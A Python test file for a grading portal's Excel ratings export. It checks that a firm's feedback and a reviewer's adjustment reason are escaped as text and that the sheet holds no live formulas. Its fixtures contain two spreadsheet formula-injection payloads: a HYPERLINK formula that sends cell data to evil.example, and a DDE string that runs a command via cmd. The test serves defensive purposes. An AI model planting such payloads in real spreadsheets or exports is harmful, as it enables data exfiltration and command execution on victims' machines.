"""The ratings export holds the firm's answer and the bureau's reason as text, never as a live formula."""

from __future__ import annotations

from datetime import date, timedelta
from io import BytesIO

from openpyxl import load_workbook
from sqlalchemy import select

from portal.extensions import db
from tests.plugins.evaluator_grading.helpers import FIRM_A, as_user
from tests.portal.workflow.helpers import project_with_targets, user

RESPONSE = '=HYPERLINK("http://evil.example/?d="&C4,"详情")'
REASON = "-1+cmd|' /C calc'!A0"


def test_ratings_export_keeps_formula_like_text_as_text_and_numbers_as_numbers(app, world, clock):
    from plugins.evaluator_grading import operations as grading
    from plugins.evaluator_grading import ratings
    from portal.accounts.models import Organisation

    with app.test_request_context():
        reviewer, firm_user = user("reviewer"), user("firm")
        firm = db.session.scalar(select(Organisation).where(Organisation.name == FIRM_A))
        project = project_with_targets(code="EG-EXP-1")
        # Due yesterday (Beijing) and not handed in: quantity 0 of 1 due.
        grading.engage(firm=firm, projects=[project], deadline=date(2025, 6, 30), amount="2", user=reviewer)
        [rating] = [r for r in ratings.compute_year(reviewer.bureau_id, 2022, reviewer) if r.firm_id == firm.id]
        ratings.open_draft(rating, reviewer)
        ratings.respond(rating, firm_user, RESPONSE)
        ratings.finalise(rating, reviewer, level="C", reason=REASON, now=rating.window_closes_at + timedelta(days=1))
        db.session.commit()

    response = as_user(app, "reviewer", world["passwords"]["reviewer"]).get(
        "/work/evaluator_grading/ratings/year/2022/export.xlsx")
    assert response.status_code == 200
    workbook = load_workbook(BytesIO(response.data))
    sheet = workbook["执业质量评价"]
    headers = [c.value for c in sheet[1]]
    [row] = [dict(zip(headers, r, strict=True)) for r in sheet.iter_rows(min_row=2)]
    assert row["第三方机构"].value == FIRM_A and row["年度"].value == 2022
    assert row["机构反馈意见"].value == "'" + RESPONSE and row["机构反馈意见"].data_type == "s"
    assert row["调整理由"].value == "'" + REASON and row["等级"].value == "C"
    assert row["综合得分"].value == 0.0 and row["综合得分"].data_type == "n"
    assert [c.coordinate for ws in workbook for r in ws.iter_rows() for c in r if c.data_type == "f"] == []
